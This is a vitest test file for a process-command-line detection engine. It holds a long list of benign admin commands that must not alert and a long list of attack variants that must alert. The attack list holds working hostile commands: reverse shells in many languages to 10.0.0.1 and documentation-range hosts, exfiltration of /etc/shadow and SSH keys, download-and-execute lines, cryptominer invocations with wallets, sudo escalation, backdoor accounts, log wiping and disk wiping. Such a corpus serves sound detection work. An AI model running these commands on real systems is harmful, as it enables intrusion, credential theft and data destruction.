/**
 * Rule behaviour on composed command lines that are not in the corpus: look-alikes from install guides and admin
 * work that must stay quiet, and variants of known attacks (PayloadsAllTheThings, GTFOBins, Atomic Red Team
 * idioms written differently from the corpus) that must be found.
 */
import { describe, expect, test } from 'vitest';
import { readFileSync } from 'node:fs';
import { parseAllowList } from '../../../detectors/process/allow-list.js';
import { classifyCommandLine, RuleEngine } from '../../../detectors/process/engine.js';
import { FILE_WATCH_LABELS } from '../../../detectors/process/file-watcher.js';
import { ALL_RULES } from '../../../detectors/process/rules/index.js';

const engine = new RuleEngine();
const classify = (cmdline: string) => classifyCommandLine(engine, { cmdline });

const BENIGN_LOOK_ALIKES = [
`curl -A 'Mozilla/5.0 (X11; Linux x86_64)' -sL https://example.com/page`, `curl -A 'odin-check' http://localhost:9407/metrics`,
`scp -i ~/.ssh/id_ed25519 model.safetensors gpu01:/data/`, `rsync -e 'ssh -i /root/.ssh/id_rsa' -a ./ gpu01:/opt/app/`, `cat ~/.docker/config.json`, `docker run -d --name node-exporter --net host --pid host -v /:/host:ro,rslave quay.io/prometheus/node-exporter --path.rootfs=/host`, `docker run --volume=/:/rootfs:ro --volume=/var/run:/var/run:ro --privileged --device=/dev/kmsg -d gcr.io/cadvisor/cadvisor:v0.49.1`, `curl -T backup.tar.gz ftp://nas.local/backups/`, `dd if=ubuntu-24.04.iso of=/dev/sdb bs=4M status=progress`, `dd if=/dev/zero of=/tmp/test bs=1M count=1024`, `grep -rn password /etc/grafana/grafana.ini`, `echo 'PasswordAuthentication no' | sudo tee -a /etc/ssh/sshd_config`, `exec 3<>/dev/tcp/localhost/6379; echo PING >&3; cat <&3`, `nslookup $(cat /etc/hostname)`, `sudo journalctl --vacuum-time=1h`, `openssl enc -aes-256-cbc -pbkdf2 -in secrets.env -out secrets.env.enc -pass env:BACKUP_PASS`, `kubectl get secret grafana -o jsonpath='{.data.admin-password}' | base64 --decode`, `echo 'alias k=kubectl' >> ~/.bashrc`, `curl -sfL https://get.k3s.io | K3S_URL=https://10.0.0.4:6443 K3S_TOKEN=mynodetoken sh -`, `sudo iptables -t nat -F`, `echo | openssl s_client -connect api.acme.dev:6443 2>/dev/null | openssl x509 -noout -dates`, `jupyter lab --ip=0.0.0.0 --port=8888 --no-browser`,
`sudo modprobe nvidia`, `sudo insmod /lib/modules/6.8.0/extra/nvidia.ko`, `sudo systemctl restart rsyslog`, `useradd -r -s /usr/sbin/nologin prometheus`, `grep ubuntu /etc/passwd`, `getent passwd ubuntu`, `echo br_netfilter | sudo tee /etc/modules-load.d/k8s.conf`, `sudo sysctl -w net.ipv4.ip_forward=1`,

`(crontab -l; echo "0 3 * * * /usr/local/bin/backup.sh") | crontab -`,
`echo 'export PATH=/usr/local/cuda/bin:$PATH' >> ~/.bashrc`,
`echo 'source <(kubectl completion bash)' >> ~/.bashrc`,
`echo 'export PATH=/usr/local/cuda/bin:$PATH' | sudo tee /etc/profile.d/cuda.sh`,
`sudo cat /etc/rancher/k3s/k3s.yaml`, `sudo cat /var/lib/rancher/k3s/server/node-token`,
`sudo cp /etc/rancher/k3s/k3s.yaml ~/.kube/config`,
`curl -Lo /tmp/helm.tar.gz https://get.helm.sh/helm-v3.15.0-linux-amd64.tar.gz`,
`docker run --rm --privileged multiarch/qemu-user-static --reset -p yes`,
`docker run -d --gpus all --cap-add SYS_ADMIN --rm -p 9400:9400 nvcr.io/nvidia/k8s/dcgm-exporter:3.3.5-3.4.0-ubuntu22.04`,
`iptables -F && iptables -t nat -F && iptables -t mangle -F && iptables -X`,
`trap 'rm -rf /tmp/build.x' EXIT`, `timeout 1 bash -c '</dev/tcp/10.0.0.5/6443'`, `nc -z 10.0.0.5 6443`, `nc -zv db 5432`,
`chmod 2775 /srv/shared`, `ln -sf /bin/bash /bin/sh`, `mv /tmp/k9s /usr/local/bin/`, `sudo install -m 0755 /tmp/kubectl /usr/local/bin/kubectl`,
`cat ~/.ssh/id_ed25519.pub >> ~/.ssh/authorized_keys`, `curl -fsS http://localhost:8080/healthz`, `chmod 0644 /etc/app/config.yaml`,
`/tmp/cuda_12.4.0_550.54.14_linux.run --silent --toolkit`, `sudo sh cuda_12.4.0_550.54.14_linux.run`,
`curl -X POST -H 'Content-Type: application/json' -d @alert.json http://alertmanager:9093/api/v2/alerts`,
`echo "0 3 * * * root /usr/local/bin/backup.sh" > /etc/cron.d/backup`,
`sudo k3s kubectl exec -it pod -- /bin/sh`, `sudo chsh -s /bin/zsh alice`,
`tar -czf - ./build | ssh host 'tar -xzf - -C /opt'`, `ssh -D 1080 -N bastion`,
`grep -rn password src/`, `find . -name '*.pem' -newer x`, `journalctl --vacuum-time=2d`, `echo $CERT | base64 -d > /tmp/ca.crt`,
`sudo -E env "PATH=$PATH" nvidia-smi`, `kubectl get secrets -n monitoring`, `dig +short $(hostname)`,
`mount /dev/nvme1n1 /mnt/data`, `sudo mkfs.ext4 /dev/nvme1n1`, `rsync -a /root/.ssh/ /backup/ssh/`, `scp /etc/rancher/k3s/k3s.yaml me@laptop:~/.kube/config`,
`openssl s_client -connect api.acme.dev:443 -servername api.acme.dev </dev/null`, `socat TCP-LISTEN:8443,fork TCP:10.0.0.4:443`,
`wget -O /tmp/get-docker.sh https://get.docker.com`, `sh /tmp/get-docker.sh`,
`perl -e 'print "hello\\n"'`, `node -e "require('child_process').execSync('ls')"`, `sudo systemctl restart sshd`, `kill -9 31337`,
`/usr/bin/python3 -c "import socket; s=socket.socket(); s.connect(('localhost', 5432)); print('ok')"`,
`git clone https://github.com/acme/miner-stats.git`, `./xmrig --version`, `docker run --rm -it -v $(pwd):/work ubuntu bash`,
`/adapter --cert-dir=/tmp/cert --secure-port=6443`, `bash ~/miniconda.sh -b -p /opt/conda`, `echo "LANG=en_US.UTF-8" >> /etc/environment`,
`sh -c 'echo "PATH=$(getconf PATH):/usr/local/cuda/bin" >> /etc/environment'`, `git config --global core.editor 'code --wait'`, `git config --global core.pager 'less -RF'`,
`etcdctl --cacert /etc/kubernetes/pki/etcd/ca.crt --cert /etc/kubernetes/pki/etcd/server.crt --key /etc/kubernetes/pki/etcd/server.key member list`,
`tar -czf /backups/k3s-$(date +%F).tgz /var/lib/rancher/k3s/server/db /var/lib/rancher/k3s/server/token`, `echo '0 4 * * * root /usr/local/bin/prune.sh' | sudo tee /etc/cron.d/prune`,
`rsync -a /etc/rancher/k3s/k3s.yaml admin@10.0.0.30:.kube/`, `restic -r rest:http://10.0.0.50:8000/k3s backup /var/lib/rancher/k3s/server`, `iptables -D INPUT -j KUBE-FIREWALL`,
`HTTPS_PROXY=http://10.0.0.1:3128 curl -fsSL https://example.org/install.sh -o install.sh`, `finger alice`, `run-parts --report /etc/cron.daily`, `curl -s http://10.0.0.5:8080/healthz`,
`ssh -L 8080:localhost:80 -N bastion`, `dnf install -y https://dl.fedoraproject.org/pub/epel/epel-release-latest-9.noarch.rpm`, `ping -c 3 1.1.1.1`,
`/image-awaiter -auth-token-path=/var/run/secrets/kubernetes.io/serviceaccount/token -api-server-address=https://kubernetes.default.svc:443`,
`kube-apiserver --service-account-key-file=/var/lib/rancher/k3s/server/tls/service.key --tls-private-key-file=/var/lib/rancher/k3s/server/tls/serving-kube-apiserver.key`,
`mv /var/log/app/worker.log /var/log/app/worker.log.1`, `grafana server --homepath=/usr/share/grafana --config=/etc/grafana/grafana.ini --port 3333`,
`echo /usr/bin/zsh | sudo tee -a /etc/shells`, `echo /bin/bash >> /etc/shells`, `sudo kubectl apply -f /tmp/manifest.yaml`, `sudo dpkg -i /tmp/cuda-keyring.deb`,
`sudo nginx -t -c /etc/nginx/nginx.conf`, `ldconfig /usr/local/cuda/lib64`, `sudo PATH=$PATH:/usr/local/cuda/bin make -j8`, `export HISTIGNORE='ls:bg:fg:history'`,
`gcc -shared -fPIC -o /tmp/build/libplugin.so plugin.c`, `python3 bench.py --plugin /tmp/build/libplugin.so`, `cp /tmp/libnccl.so.2 /usr/local/lib/`, `python3 -c 'import ctypes; ctypes.CDLL("libcuda.so.1")'`,
`python3 -m http.server 8000 --bind 127.0.0.1`, `php -S localhost:8000`, `ssh -N -f -L 5432:db.internal:5432 ops@bastion.acme.dev`,
`sudo tmux new -s work`, `sudo chroot /mnt/sysroot /bin/bash`, `sudo service k3s restart`,
`chown node_exporter:node_exporter /usr/local/bin/node_exporter`, `nc -zv -w 2 10.0.0.5 6443`, `ssh ubuntu@10.0.0.21`, `ssh -p 2222 git@git.acme.dev`,
`docker exec -it grafana grafana cli plugins ls`, `kubectl exec -n monitoring prometheus-0 -- wget -qO- localhost:9090/-/ready`, `docker cp grafana:/var/lib/grafana/grafana.db ./backup/`,
`go run ./cmd/odin`, `iptables -t nat -A PREROUTING -p tcp --dport 80 -j REDIRECT --to-port 8080`, `git apply fix.patch`, `systemctl enable --now k3s-agent.service`,
`python3 -c 'import http.server as s, socketserver as ss; ss.TCPServer(("127.0.0.1", 8000), s.SimpleHTTPRequestHandler).serve_forever()'`, `kubectl --kubeconfig /etc/rancher/k3s/k3s.yaml get nodes`, `helm list --kubeconfig=/etc/rancher/k3s/k3s.yaml`, `yq -i '.x=1' /etc/rancher/k3s/k3s.yaml`,
`ansible-playbook site.yml -e kubeconfig=/etc/rancher/k3s/k3s.yaml`, `curl -x http://10.0.0.1:3128 https://example.org`, `curl -E /etc/ssl/private/client.pem https://api.acme.dev`,
`split -l 1000 /tmp/users.csv /tmp/part-`, `sudo apt-get -y install nvidia-driver-550`, `kubectl apply -f https://raw.githubusercontent.com/NVIDIA/k8s-device-plugin/v0.15.0/deployments/static/nvidia-device-plugin.yml`,
`kubectl apply -f https://example.com/manifests/private-registry.yaml`, `ufw allow from 10.0.0.0/8 to any port 6443`, `rm -rf /tmp/.X11-unix/X0`, `chmod +x /tmp/get-docker.sh`,
`cp /home/ops/.config/systemd/user/sync.service /etc/systemd/system/`, `ray start --address=10.0.0.5:6379`, `pdflatex report.tex`, `scp /etc/rancher/k3s/registries.yaml admin@10.20.0.12:/tmp/`, `openssl x509 -in /etc/ssl/certs/ca.pem -noout -text`, `httpd -DFOREGROUND`, `ssh -F ~/.ssh/config bastion`, `sudo ss -tlnp | grep 8000`, `scp model.safetensors ubuntu@10.0.0.21:/data/`, `locate libcuda.so`, `nginx -t -c /etc/nginx/nginx.conf`, `split -l 1000 users.csv part-`,
`truncate -s 0 app.log`, `echo hello > /var/lib/docker/volumes/x/_data/hello.txt`, `touch -m -t 202502141032.07 plugin/forward/forward.go`, `echo 10.0.0.4 k3s-server | sudo tee -a /etc/hosts`, `for h in $NODES; do dig +short $h.cluster.local; done`,
`git clone https://github.com/acme/gpu-exporter`, `docker run --rm -it ubuntu:24.04 bash`, `./configure --prefix=/usr/local`, `sudo deluser --remove-home frank`, `systemd-run --scope -p MemoryMax=8G python3 train.py`, `curl -o /tmp/libfoo.so https://example.com/libfoo.so`, `if ! command -v k3s; then curl -sfL https://get.k3s.io | sh -; fi`,
`python3 -c 'import subprocess; subprocess.run(["/tmp/build/run-tests.sh"])'`, `sshfs -o IdentityFile=/root/.ssh/id_ed25519 u@nas:/srv /mnt/nas`, `sudo su - postgres`, `su -s /bin/bash -c 'whoami' alice`, `curl -fsSL https://download.docker.com/linux/ubuntu/gpg | sudo gpg --dearmor -o /etc/apt/keyrings/docker.gpg`,
`echo "deb [arch=amd64] https://download.docker.com/linux/ubuntu jammy stable" | sudo tee /etc/apt/sources.list.d/docker.list`, `cp /tmp/build/docker-entrypoint.sh /usr/local/bin/docker-entrypoint.sh`, `mkdir -p /usr/local/lib/python3.11/site-packages`, `echo $CA | base64 -d > /tmp/ca.crt`, `nohup python3 /tmp/train.py > train.log 2>&1 &`, `sudo -R / ls`, `dd if=/dev/zero of=/var/lib/swapfile bs=1M count=1024`, `sudo node --version`, `sudo python3 -m pip install -U pip`, `sudo bash`, `sudo -s`, `tcpdump -i any port 53`, `sudo tcpdump -i cni0 -nn host 10.42.0.15 and tcp port 9100 -c 50`, `tshark -i eth0 -f 'udp port 4789'`, `gdb -p 4242 -batch -ex 'thread apply all bt'`, `sed -i 's/^#\?PermitRootLogin.*/PermitRootLogin no/' /etc/ssh/sshd_config`,
`mv /usr/local/bin/kubectl /usr/local/bin/kubectl.old`, `cp ./k9s ~/.local/bin/`, `curl -LO https://github.com/derailed/k9s/releases/download/v0.32.5/k9s_Linux_amd64.tar.gz`,
`pytest tests/ --junit-xml /tmp/report.xml`, `./xmrig --help`, `crontab -l`, `for h in db1 db2; do nc -z -w1 $h 5432 && echo up; done`, `systemctl restart falco-modern-bpf.service`,
`unshare --pid --fork --mount-proc bash`, `podman unshare cat /proc/self/uid_map`, `sudo ls -l /etc/cron.d/`, `sudo grep -r backup /etc/cron.d/`,
`sudo cat /root/.ssh/authorized_keys`, `sudo ls -la /etc/ld.so.preload`, `sudo rm -f /etc/ld.so.preload`, `ln -sf /bin/bash /bin/sh`, `sudo su -`, `sudo su - postgres -c bash`,
`tar -xzf k3s-airgap-images-amd64.tar.gz -C /var/lib/rancher/k3s/agent/images/`, `script -q -c 'kubectl logs -f deploy/vllm' /var/log/vllm-session.log`, `logrotate -f /etc/logrotate.conf`,
`sudo update-alternatives --install /usr/bin/python python /usr/bin/python3.11 1`, `sudo cp /bin/bash /mnt/chroot/bin/`, `ln -s /usr/bin/bash ~/.local/bin/bash`,
`adduser alice`, `useradd -o -m -u 1000 -g 1000 -s /bin/bash loki`, `sudo useradd -m -s /bin/bash -G docker,render priya`,
`python3 -m http.server 8000 --directory ./site`, `cat ~/.bash_history | grep helm`, `sudo tcpdump -i enp65s0f0 -w /tmp/api.pcap host 10.10.0.10 and port 6443`,
`sudo dd if=/dev/zero of=/swapfile bs=1M count=8192`, `dd if=/dev/zero of=/home/ubuntu/test.img bs=1G count=1 oflag=direct`, `tar -czf /tmp/backup-2024.tgz /etc/rancher`,
`cc -c /tmp/selfgz1234/NVIDIA-Linux-x86_64-550.54.15/kernel/nvidia/nv.c`, `gcc -O2 -o hello hello.c`, `nc -l 127.0.0.1 9999`, `su - postgres`, `sudo -u www-data php artisan migrate`,
`sudo mount -t nfs 10.0.0.5:/export/models /mnt/models`, `sudo mount -o loop ubuntu.iso /tmp/iso`, `dd if=/dev/sda of=/backup/sda.img bs=4M`, `lspci | grep -i nvidia`,
`rm -rf /var/lib/apt/lists/* /var/log/* /tmp/* /var/tmp/*`,
`sudo cp acme-root-ca.crt /usr/local/share/ca-certificates/`, `sudo wipefs -a /dev/nvme2n1`, `sudo sysctl fs.protected_regular=0`, `sudo cp registry-ca.crt /usr/local/share/ca-certificates/ && sudo update-ca-certificates`,
`grep -ri password /etc/grafana/grafana.ini`, `kubectl cp default/web-0:/app/logs/app.log ./app.log`, `chmod 600 ~/.bash_history`,
`auditctl -a always,exit -F arch=b64 -S execve -F euid=0 -k root-cmds`, `sudo systemctl restart cron`, `python3 deploy.py --kubeconfig ~/.kube/config`,
`TOKEN=$(curl -sX PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 60') && curl -s -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/instance-type`,
`sftp backup@nas01 <<< 'put /srv/backup.tgz'`, `echo "[Service]" | sudo tee /etc/systemd/system/vllm.service`,
`sudo mysql`, `usermod -aG wheel bob`, `sudo gpasswd -a alice sudo`, `sudo visudo -f /etc/sudoers.d/ops`, `sudo telnet 10.0.0.5 6443`, `sudo iftop -i eth0`, `sudo ncdu /var`,
`/bin/sh -c /usr/local/sbin/k3s-etcd-backup.sh >/var/log/k3s-etcd-backup.log 2>&1`, `base64 -w0 ~/.kube/config`,
`sudo sed -i 's/^#PasswordAuthentication yes/PasswordAuthentication no/' /etc/ssh/sshd_config`, `echo x > /tmp/.X11-unix/.lock`, `find . -name "*.yaml" -exec grep -l image {} \\;`,
`tar -czvf /backups/k3s-server-$(date +%F).tgz /var/lib/rancher/k3s/server/db /var/lib/rancher/k3s/server/token`,
`sudo kill -HUP $(pidof rsyslogd)`, `sudo openssl req -new -newkey rsa:2048 -nodes -keyout /etc/ssl/private/g.key -out /tmp/g.csr -subj "/CN=g"`,
`sudo iptables-save > /etc/iptables/rules.v4`, `grep -rn password .`, `sudo cp /tmp/k3s-config.yaml /etc/rancher/k3s/config.yaml`, `systemctl restart minio`, `tmux new -s train`,
`ssh -D 1080 -N -q bastion.lab.internal`, `groff -U -ms doc.ms`, `curl -fsSL https://get.helm.sh/helm-v3.14.0-linux-amd64.tar.gz -o /opt/helm.tgz`, `ps aux | grep -i pass`,
`sudo tcpdump -ni eno1 host 10.20.0.22 and port 29500 -w /tmp/nccl-0412.pcap`, `echo '0 3 * * * /usr/local/bin/backup.sh' >> mycron`,
`curl -sfL https://get.k3s.io | INSTALL_K3S_EXEC="server --disable=servicelb" sh -s - --token-file /root/.k3s-join`, `./scp.sh root@10.0.0.2:/etc/rancher/k3s/k3s.yaml ~/.kube/config`,
`trap 'rm -f /tmp/build.lock' EXIT`, `curl -fsSL https://example.com/key.asc | sudo gpg --dearmor -o /usr/share/keyrings/example.gpg`, `cat manifest.yaml | kubectl apply -f -`,
];

const ATTACK_VARIANTS = [
`curl -s -A 'Wininet' -m3 www.example.com`, `wget --user-agent='*<|>*' http://203.0.113.9/x`,
`nc -l -p 9001 > /tmp/.x`, `smbclient '//10.0.0.5/share' -c 'put /etc/shadow'`,
`sudo nsenter -t 1 -m -u -n -i /bin/bash`, `./php -r "posix_setuid(0); system('/bin/sh');"`, `find . -exec /bin/sh -p \\; -quit`, `echo 'evil:x:0:0::/root:/bin/bash' >> /etc/passwd`, `node -e "require('child_process').exec('nc -e /bin/sh 10.0.0.1 4242')"`, `PhoenixMiner -pool ssl://eu1.ethermine.org:5555 -wal 0x3fd05afac3e2edced734c32fd7bb2f176c588298.w1`, `systemctl stop rsyslog`, `nft flush ruleset`, `insmod ./diamorphine.ko`, `sysctl -w kernel.randomize_va_space=0`, `useradd -M -N -r -s /bin/bash -c evil_account evil`, `iodine -f -P secret ns.example.com`, `arp-scan --localnet`, `hydra -l root -P /usr/share/wordlists/rockyou.txt ssh://10.0.0.1`, `john --wordlist=/usr/share/wordlists/rockyou.txt /tmp/hashes`, `unshadow /etc/passwd /etc/shadow > /tmp/hashes`, `curl -X POST -d @/etc/passwd http://example.com/`, `kubectl run x --image=alpine --overrides='{"spec":{"hostPID":true}}'`,

`bash -i >& /dev/tcp/10.0.0.1/4242 0>&1`, `sh -i >& /dev/udp/10.0.0.1/4242 0>&1`,
`perl -e 'use Socket;$i="10.0.0.1";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'`,
`perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"10.0.0.1:4242");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'`,
`php -r '$sock=fsockopen("10.0.0.1",4242);$proc=proc_open("sh", array(0=>$sock, 1=>$sock, 2=>$sock),$pipes);'`,
`ruby -rsocket -e'spawn("sh",[:in,:out,:err]=>TCPSocket.new("10.0.0.1",4242))'`,
`socat tcp:10.0.0.1:4242 exec:'bash -li',pty,stderr,setsid,sigint,sane`,
`rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f`, `ncat 10.0.0.1 4242 -e /bin/bash`, `nc -lvnp 4444 -e /bin/bash`,
`mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:4242 > /tmp/s; rm /tmp/s`,
`node -e 'var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var client=new net.Socket();client.connect(4242,"10.0.0.1",function(){client.pipe(sh.stdin);sh.stdout.pipe(client);});'`,
`xterm -display 10.0.0.1:1`, `sqlite3 /dev/null '.shell rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f'`,
`./xmrig --url=pool.supportxmr.com:5555 --user=44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --pass=x`,
`minerd -a cryptonight -o stratum+tcp://xmr.pool.minergate.com:45560 -u a@b.c -p x`,
`docker run -d xmrig/xmrig -o pool.hashvault.pro:80 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -k`,
`sudo vim -c ':!/bin/sh'`, `sudo awk 'BEGIN {system("/bin/sh")}'`, `sudo tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh`,
`sudo python3 -c 'import os; os.system("/bin/sh")'`, `cp /bin/bash /tmp/rootbash; chmod +s /tmp/rootbash`, `find / -perm -4000 -type f 2>/dev/null`,
`echo 'hacker ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers`, `sudo -u#-1 /bin/bash`, `docker run -v /:/host -it alpine chroot /host sh`,
`curl http://169.254.169.254/latest/meta-data/iam/security-credentials/node-role`, `tar czf - /home | nc 10.0.0.1 4444`, `nc 10.0.0.1 4444 < /etc/passwd`,
`scp /etc/shadow attacker@10.0.0.1:/tmp/`, `dig @10.0.0.1 $(cat /etc/hostname | base64).exfil.example.com`, `zip -r /tmp/keys.zip /root/.ssh`,
`cat /proc/1/environ`, `grep -a -r 'AKIA' /home`, `echo '* * * * * root /tmp/x' >> /etc/crontab`, `echo "/tmp/x" > /var/spool/cron/crontabs/root`,
`useradd -o -u 0 -g 0 -M -d /root -s /bin/bash backdoor`, `echo 'ssh-rsa AAAAB3Nza attacker' >> /root/.ssh/authorized_keys`,
`cp /tmp/art.service /etc/systemd/system/art.service`, `printf '[Service]\\nExecStart=/tmp/.x/run\\n' > /etc/systemd/system/x.service`,
`systemd-run --on-calendar='*:0/5' /tmp/x`, `insmod /tmp/rootkit.ko`, `shred -u /var/log/auth.log`, `cat /dev/null > /var/log/wtmp`,
`journalctl --rotate && journalctl --vacuum-time=1s`, `systemctl stop auditd`, `pkill -9 falcon-sensor`, `echo o > /proc/sysrq-trigger`,
`dd if=/dev/zero of=/dev/sda bs=1M`, `wget http://10.0.0.1/x -O /tmp/x && chmod +x /tmp/x && /tmp/x`, `nmap -sS -p- 10.0.0.0/24`,
`for i in $(seq 1 254); do ping -c1 -W1 10.0.0.$i; done`, `nc -zv 10.0.0.1 1-1024`, `autossh -M 0 -f -N -R 2222:localhost:22 user@10.0.0.1`,
`ngrok tcp 22`, `hping3 -S --flood -p 80 10.0.0.1`, `echo "alias sudo='sudo /tmp/.k'" >> ~/.bashrc`,

`sudo rpm --pipe '/bin/sh 0<&1'`, `sudoedit -s '\\' $(perl -e 'print "A" x 65536')`, `incus launch images:alpine/3.19 c1 -c security.privileged=true`,
`python3 -c 'import socket as k,subprocess as p;l=k.socket();l.bind(("",9001));l.listen(1);c,_=l.accept();p.call(["/bin/sh","-i"],stdin=c.fileno(),stdout=c.fileno(),stderr=c.fileno())'`,
`lxc config device add c1 host disk source=/ path=/mnt/root recursive=true`, `bash -c "trap 'nohup /tmp/.x &' USR1; sleep 9999"`,
`echo 'ExecStart=/bin/sh -c "sleep 60; /var/tmp/.u"' >> /etc/systemd/system/upd.service`, `git config --global core.fsmonitor 'setsid /dev/shm/.g'`,
`git config --global alias.st '!nohup /home/u/bin/s >/dev/null 2>&1 & git status'`, `sudo tee /etc/cron.d/update`, `echo 'p:kp do_sys_openat2' >> /sys/kernel/tracing/kprobe_events`,
`wget -qO- https://pastebin.com/raw/abc | bash`, `dbclient -R 8080:localhost:80 user@203.0.113.9`, `./gost -L :1080 -F socks5://203.0.113.9:1080`,
`python3 tunnel.py -u https://victim.example/upload/t.aspx -p 1080`, `rsync -av /etc/rancher/k3s/k3s.yaml user@45.77.1.2:/srv/`,
`tar czf backup@203.0.113.9:/srv/etc.tgz /etc --rsh-command=/usr/bin/ssh`, `restic -r rest:http://45.77.1.2:8000/r backup /etc/kubernetes/pki`, `ruby -run -e httpd /root -p 9000`,
`./miner -algo kawpow -pool1 rvn.2miners.com:6060 -wallet RJ7yQe6GkN4s6Z9kC9wXhFgMZzV8b3H1eS`, `bminer -uri ethstratum+ssl://0x3fd05afac3e2edced734c32fd7bb2f176c588298.w@eu1.ethermine.org:5555`,
`echo c3RyYXR1bSt0Y3A6Ly9wb29sLmV4YW1wbGUub3JnOjMzMzM= | base64 -d`,

`./start-stop-daemon --start --exec /bin/bash -- -p`, `run-parts --regex '^bash$' /usr/bin`, `echo 'set c [socket 198.51.100.7 9001]; while {[gets $c l] >= 0} {eval $l}' | tclsh`,
`ip link set dev eth0 xdpgeneric obj /tmp/x.o sec xdp`, `bpftool prog loadall /dev/shm/k.o /sys/fs/bpf/k`, `finger root@198.51.100.7`, `rsh 198.51.100.7 id`,
`curl -O http://198.51.100.7/tools/x`, `dnf install -y http://198.51.100.7/p.rpm`, `scp root@198.51.100.7:/kit.tgz .`, `socat - udp:198.51.100.7:53`, `ncat 198.51.100.7 8443`,
`ssh -g -L 8080:10.0.0.9:80 user@bastion`, `ssh -N -D 0.0.0.0:1080 user@host`, `ALL_PROXY=http://198.51.100.7:1080 wget -q https://example.org/x`, `nping --tcp -p 22 198.51.100.7`,
`ssh u@198.51.100.7 'cat > x' < /etc/kubernetes/admin.conf`, `./gpu-agent --url=0x3fd05afac3e2edced734c32fd7bb2f176c588298.w1@eth.example.org:4444 --par=ethash`,
`./agent --mining-wallet dero1qyxk2xd6f0gp7wkqrwcfzlq2rv6qj5v7x9yp5kxk0m8ykt8a2xk9qqgl9a5ls --daemon-address pool.example.net:10100`,
`sudo vim -c ':set shell=/bin/bash | shell'`, `sudo view -c ':terminal'`, `pscp -pw hunter2 ./x root@203.0.113.9:/tmp/`, `tftp -g -r x 203.0.113.9`, `sshfs u@203.0.113.9:/ /mnt/x`,
`./nheq -l zec.example-pool.net:4444 -u t1Kx9nQ7mP3vR8sT1uW4yZ6aBcDeFgHiJkL -t 8`, `mv /var/log/auth.log /tmp/a`, `chmod 755 /etc/init.d/net-helper`,
`printf 'exec /bin/bash 0<&2 1>&2' > /var/tmp/.x`, `sudo rsyslogd -f /dev/shm/r.conf`, `sudo PYTHONPATH=/tmp/.p python3 -m http.server`, `ldconfig /dev/shm/lib`,
`echo '/var/tmp/' >> /etc/ld.so.conf.d/x.conf`, `trap "logger -t cmd $BASH_COMMAND" DEBUG`, `export HISTIGNORE='*sudo*:*ssh*'`, `ln -sf /dev/null ~/.zsh_history`,
`echo 'ops ALL=(ALL) NOPASSWD: ALL' | xxd | sudo xxd -r - /etc/sudoers.d/ops`, `sudo openssl req -engine /dev/shm/e.so`, `gimp -idf --batch-interpreter=python-fu-eval -b 'from ctypes import cdll; cdll.LoadLibrary("/var/tmp/.l/x.so")'`, `sudo ssh-keygen -D ./lib.so`,
`ssh -fND 1080 ops@91.92.8.14`, `plink -N -L 3389:10.0.0.9:3389 u@185.22.9.1`,
`sudo tmux -c /bin/bash`, `sudo chroot / /bin/bash`, `sudo service ../../../usr/bin/bash`,
`kubectl exec -it web-0 -- cat /var/run/secrets/kubernetes.io/serviceaccount/token`, `docker exec -u 0 app sh -c 'bash -i >& /dev/tcp/198.51.100.4/443 0>&1'`,
`nc -z 192.168.1.0/24 22`, `ncat -zv 10.0.0.7 21 22 23 25 80`, `ssh -o StrictHostKeyChecking=no root@45.61.1.9`, `dbclient -p 8022 admin@91.92.1.1`,
`amazon-ssm-agent -register -code QWERTY -id 11111111-2222 -region eu-west-1`,
`install -m 644 /dev/shm/ca.pem /etc/pki/ca-trust/source/anchors/ca.pem`, `systemctl stop falcon-sensor.service`,
`sed -i 's/^#x/* * * * * root curl -s http:\/\/203.0.113.8\/k | sh/w /etc/cron.d/x' /etc/hosts`, `podman cp web:/tmp/.u /etc/systemd/system/u.service`,
`deno run /dev/shm/.a/main.ts`, `msgfilter -P -i /etc/gshadow /bin/cat`, `for p in $(seq 1 1024); do nc -zw1 10.0.0.9 $p; done`,
`curl -sLo gost.tgz https://github.com/go-gost/gost/releases/download/v3.0.0/gost_3.0.0_linux_amd64.tar.gz`, `crontab -r -u www-data`,
`cp /usr/sbin/sshd /usr/sbin/.sshd && cp /dev/shm/s /usr/sbin/sshd`, `echo 'PermitRootLogin yes' >> /etc/ssh/sshd_config`,
`gdb -p $(pgrep -o sshd) -batch -ex 'call (void*)dlopen("/dev/shm/h.so", 2)'`, `sudo run-parts /tmp/.jobs`, `install -m755 /tmp/.u/kt /home/ops/bin/kubectl`,
`pwsh -c 'Set-Content -Path /etc/cron.d/upd -Value "* * * * * root /tmp/.u/run"'`, `printf '[Service]\nExecStart=/usr/bin/.updater\n' > /etc/systemd/system/upd.service`,
`./lolMiner pool.json`, `python3 -c 'import http.server as h, socketserver as t; t.TCPServer(("", 8080), h.SimpleHTTPRequestHandler).serve_forever()'`,
`iptables -t nat -I PREROUTING -s 91.92.1.7 -p tcp --dport 443 -j DNAT --to-destination 10.0.0.9:31337`, `chattr -a /var/log/syslog`, `socat file:$(tty),raw,echo=0 tcp:198.51.100.3:443`,
`systemctl enable kthreadd.service`, `git apply --unsafe-paths --directory /etc/cron.d x.patch`, `sudo gcc -x c -E /root/.ssh/id_ed25519`, `ss -a -F /etc/rancher/k3s/k3s.yaml`, `nmap -iL /etc/kubernetes/admin.conf`,
